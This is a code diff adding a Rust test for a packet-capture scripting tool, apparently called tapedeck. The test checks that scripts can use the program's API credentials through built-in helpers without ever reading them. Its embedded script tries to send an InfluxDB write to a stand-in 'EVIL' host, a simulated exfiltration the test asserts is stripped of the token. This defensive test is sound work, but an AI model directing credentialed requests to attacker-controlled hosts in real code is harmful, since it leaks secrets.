@@ -627,6 +627,61 @@ fn a_script_of_the_program_goes_where_the_configuration_says() {
     assert_eq!(asked[0].json()["request"]["path"], "/health");
 }
 
+#[test]
+fn a_script_signs_in_with_what_the_program_was_started_with_and_never_sees_it() {
+    let double =
+        Double::start(|_, _| Told::ok(r#"{"choices": [{"message": {"content": "a teapot"}}]}"#));
+    let evil = Double::start(|_, _| Told::ok("{}"));
+    let home = tempfile::tempdir().unwrap();
+    let at = |name: &str| home.path().join(name);
+    let talk = tapedeck::synth::tcp(([10, 0, 0, 1], 40_000), ([10, 0, 0, 2], 80))
+        .to_server("GET /health HTTP/1.1\r\nHost: shop\r\n\r\n")
+        .to_client("HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok");
+    std::fs::write(at("in.pcap"), tapedeck::synth::savefile(&talk.fin())).unwrap();
+    let script = "function onItemCaptured(data) {
+        console.log(chatgpt.prompt('', '?'), chatgpt.prompt(env.OWN_KEY, '?'));
+        vendor.influxdb(undefined, '', '', 'b', 'm', {n: 1});
+        vendor.influxdb(env.EVIL, '', '', 'b', 'm', {n: 1});
+        try { vendor.slackBot(env.SLACK_BOT_TOKEN, 'C1', '', '', '') } catch (e) { console.log(e) }
+        console.log(Object.keys(env).join(), typeof process);
+    }";
+    std::fs::write(at("s.js"), script).unwrap();
+    let ran = std::process::Command::new(env!("CARGO_BIN_EXE_tapedeck"))
+        .current_dir(home.path())
+        .env("HOME", home.path())
+        .env("OPENAI_API_KEY", "sk-of-the-process")
+        .env("INFLUX_HOST", double.url())
+        .env("INFLUX_TOKEN", "token-of-the-process")
+        .env_remove("SLACK_BOT_TOKEN")
+        .env_remove("SLACK_AUTH_TOKEN")
+        .args(["run", "s.js", "--pcap", "in.pcap"])
+        .args(["--set", &format!("scripting.chatgpt.url={}", double.url())])
+        .args(["--set", &format!("scripting.env.EVIL={}", evil.url())])
+        .args(["--set", "scripting.env.OWN_KEY=sk-of-the-script"])
+        .output()
+        .unwrap();
+    let said = String::from_utf8_lossy(&ran.stdout).into_owned();
+    assert!(said.contains("a teapot a teapot"), "{ran:?}");
+    let missing = "vendor.slackBot needs token: pass it, or start tapedeck with SLACK_BOT_TOKEN";
+    assert!(said.contains(missing), "{said}");
+    assert!(said.contains("EVIL,OWN_KEY undefined"), "{said}");
+    assert!(!said.contains("of-the-process"), "{said}");
+    let of = |asked: &[crate::double::Asked], path: &str| -> Vec<String> {
+        let asked = asked.iter().filter(|one| one.path() == path);
+        asked
+            .map(|one| one.header("authorization").to_owned())
+            .collect()
+    };
+    let asked = double.asked();
+    let prompts = of(&asked, "/chat/completions");
+    assert_eq!(
+        prompts,
+        ["Bearer sk-of-the-process", "Bearer sk-of-the-script"]
+    );
+    assert_eq!(of(&asked, "/api/v2/write"), ["Token token-of-the-process"]);
+    assert_eq!(of(&evil.asked(), "/api/v2/write"), [""]);
+}
+
 /// Runs openssl in a folder; false when it is not there.
 fn openssl(dir: &std::path::Path, arguments: &str) -> bool {
     let ran = std::process::Command::new("openssl")
